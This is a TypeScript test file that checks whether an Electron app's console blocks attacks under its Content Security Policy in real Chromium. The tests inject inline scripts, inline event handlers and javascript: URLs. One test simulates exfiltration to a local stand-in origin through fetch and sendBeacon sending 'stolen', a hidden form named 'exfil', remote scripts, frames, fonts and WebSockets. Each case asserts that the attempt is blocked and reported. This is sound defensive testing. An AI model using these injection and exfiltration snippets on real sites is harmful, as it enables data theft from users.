import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { buildCsp } from '../../src/main/electron/protocol';
import { openConsole, type ConsoleSession } from '../support/chromium';

// CSP in real Chromium (issue #7, item 3): the built console under exactly the policies the desktop
// app serves it with (the app:// handler's header from buildCsp() plus the page's own meta policy),
// attacked from inside the page as injected markup would: inline script, inline handlers, eval,
// and every way to load or send something to another origin. None may run or leave, and Chromium
// must report each as a CSP violation. Navigation, window.open and downloads are Electron's guards,
// proven over a mocked electron in test/unit/main/electron (guards, windows, ipc-transport).

// Only protocol.ts's pure policy builder is used; its module imports electron for the handler.
vi.mock('electron', () => ({ protocol: {}, session: {} }));

let ui: ConsoleSession;
let other: Server;
let otherOrigin: string;
const hits: string[] = [];

beforeAll(async () => {
  // Another origin on loopback, counting every request that reaches it.
  other = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'content-type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain', 'access-control-allow-origin': '*' });
    res.end(req.url?.endsWith('.js') ? 'window.__remoteScriptRan = true;' : 'ok');
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;

  ui = await openConsole({ keychainService: `${process.env.AUTHDESK_KEYCHAIN_SERVICE ?? 'authdesk-test'}-csp-${process.pid}` });
  // Serve the console page with the desktop app's header policy, as app:// does, on top of its meta one.
  await ui.page.route(/\/console\/(index\.html)?(\?.*)?$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': buildCsp() } });
  });
  await ui.page.addInitScript(() => {
    const w = window as unknown as { __violations: { directive: string; blocked: string; sample: string }[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, sample: e.sample });
    });
  });
  await ui.goto('/settings/tenants');
});

afterAll(async () => {
  await ui?.close();
  await new Promise<void>((r) => other?.close(() => r()));
});

type Violation = { directive: string; blocked: string; sample: string };
const violations = () => ui.page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);
const flag = (name: string) => ui.page.evaluate((n) => (window as unknown as Record<string, unknown>)[n], name);

describe('the console under its shipped CSP in Chromium', () => {
  it('loads and works under both policies with no violation (the policy does not break the app)', async () => {
    const response = await ui.page.reload();
    expect(response?.headers()['content-security-policy']).toBe(buildCsp());
    await ui.page.locator('main h1').first().waitFor();
    await expect(ui.page.locator('main h1').first().textContent()).resolves.toBe('Tenants');
    await ui.page.waitForTimeout(200);
    await expect(violations()).resolves.toEqual([]);
    expect(ui.problems).toEqual([]);
  });

  it('refuses an injected inline script, and reports it', async () => {
    await ui.page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inlineRan = true;';
      document.body.appendChild(s);
    });
    await expect.poll(violations).toContainEqual(expect.objectContaining({ directive: 'script-src-elem', blocked: 'inline' }));
    await expect(flag('__inlineRan')).resolves.toBeUndefined();
  });

  it('refuses inline event handlers and javascript: URLs in injected markup', async () => {
    await ui.page.evaluate(() => {
      const box = document.createElement('div');
      box.innerHTML = '<img src="data:," onload="window.__handlerRan = true"><a id="jsurl" href="javascript:window.__jsUrlRan = true">x</a>';
      document.body.appendChild(box);
      (document.getElementById('jsurl') as HTMLAnchorElement).click();
    });
    await expect.poll(violations).toContainEqual(expect.objectContaining({ directive: 'script-src-attr', blocked: 'inline' }));
    await expect(flag('__handlerRan')).resolves.toBeUndefined();
    await expect(flag('__jsUrlRan')).resolves.toBeUndefined();
  });

  it("allows neither eval nor inline code in either policy (Chromium's DevTools evaluation bypasses eval checks, so this is read from the policies)", async () => {
    const meta = await ui.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    for (const policy of [buildCsp(), meta ?? '']) {
      expect(policy).toMatch(/script-src 'self'(;|$)/);
      expect(policy).not.toMatch(/unsafe-eval|unsafe-inline|unsafe-hashes|wasm-unsafe-eval|strict-dynamic|\*|https?:|data:.*script/);
      expect(policy).toMatch(/object-src 'none'/);
      expect(policy).toMatch(/base-uri 'none'/);
    }
  });

  it('loads and sends nothing to another origin: script, image, fetch, beacon, frame, style, font, form, base', async () => {
    hits.splice(0);
    const before = (await violations()).length;
    await ui.page.evaluate((origin) => {
      const add = (html: string) => {
        const box = document.createElement('div');
        box.innerHTML = html;
        document.body.appendChild(box);
      };
      const script = document.createElement('script');
      script.src = `${origin}/remote.js`;
      document.body.appendChild(script);
      add(`<img src="${origin}/pixel.png">`);
      add(`<iframe src="${origin}/frame"></iframe>`);
      add(`<object data="${origin}/object"></object>`);
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `${origin}/style.css`;
      document.head.appendChild(link);
      const style = document.createElement('style');
      style.textContent = `@font-face { font-family: x; src: url(${origin}/font.woff2) } body { font-family: x }`;
      document.head.appendChild(style);
      void fetch(`${origin}/fetch`, { method: 'POST', body: 'stolen', mode: 'no-cors' }).catch(() => undefined);
      navigator.sendBeacon(`${origin}/beacon`, 'stolen');
      const ws = (() => {
        try {
          return new WebSocket(origin.replace('http', 'ws') + '/ws');
        } catch {
          return null;
        }
      })();
      void ws;
      const base = document.createElement('base');
      base.href = `${origin}/`;
      document.head.appendChild(base);
      add(`<form id="exfil" action="${origin}/form" method="post"><input name="x" value="stolen"></form>`);
      (document.getElementById('exfil') as HTMLFormElement).requestSubmit();
    }, otherOrigin);
    await expect.poll(async () => (await violations()).length - before, { timeout: 5000 }).toBeGreaterThanOrEqual(6);
    // Give anything that slipped through time to arrive.
    await ui.page.waitForTimeout(300);
    expect(hits).toEqual([]);
    await expect(flag('__remoteScriptRan')).resolves.toBeUndefined();
    const directives = new Set((await violations()).slice(before).map((v) => v.directive));
    for (const d of ['script-src-elem', 'img-src', 'frame-src', 'connect-src', 'form-action', 'base-uri']) expect(directives).toContain(d);
    // The console is still where it was (the form did not navigate it away).
    expect(new URL(ui.page.url()).origin).toBe(ui.harness.origin);
  });
});
